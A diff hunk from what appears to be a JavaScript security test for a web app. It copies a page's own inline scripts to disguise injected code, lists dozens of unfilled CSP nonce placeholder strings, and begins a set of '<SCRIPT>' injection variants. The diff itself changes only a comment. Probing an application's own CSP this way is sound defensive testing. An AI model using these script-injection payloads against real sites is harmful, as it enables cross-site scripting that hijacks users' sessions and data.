@@ -6,7 +6,7 @@ const kofi = await victim('kofi@kestrel.example');
 const own = [...(await rhea.get('/')).body.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map((found) => found[1]);
 const starts = [...new Set(own.flatMap((text) => [text.split('(')[0], text.slice(0, 40)]))].filter((start) => start !== '' && start.length < 80);
 const asOwn = (start) => `<script>${start}${start.endsWith('(') ? ')' : ''};${code()}</script>`;
-// What stands in templates until a nonce takes its place.
+// What templates hold until a nonce takes its place.
 const PLACES = ['{{nonce}}', '{{ nonce }}', '{{NONCE}}', '{nonce}', '{NONCE}', '{{{nonce}}}', '[nonce]', '[[nonce]]', '<%= nonce %>', '%nonce%', '%NONCE%', '%%NONCE%%', '__nonce__', '__NONCE__', '_NONCE_', '$nonce', '$NONCE', '${nonce}', '${NONCE}', '@nonce', '@nonce@', '@NONCE@', '#nonce#', '#{nonce}', ':nonce', 'NONCE', 'nonce', 'nonce-placeholder', 'NONCE_PLACEHOLDER', '__CSP_NONCE__', 'CSP_NONCE', 'csp-nonce', '{{cspNonce}}', '{{csp_nonce}}', '{{csp-nonce}}', '{{res.locals.nonce}}', '${res.locals.nonce}', 'undefined', 'null', 'true', ''];
 const ways = () => [
   `<SCRIPT>${code()}</SCRIPT>`,
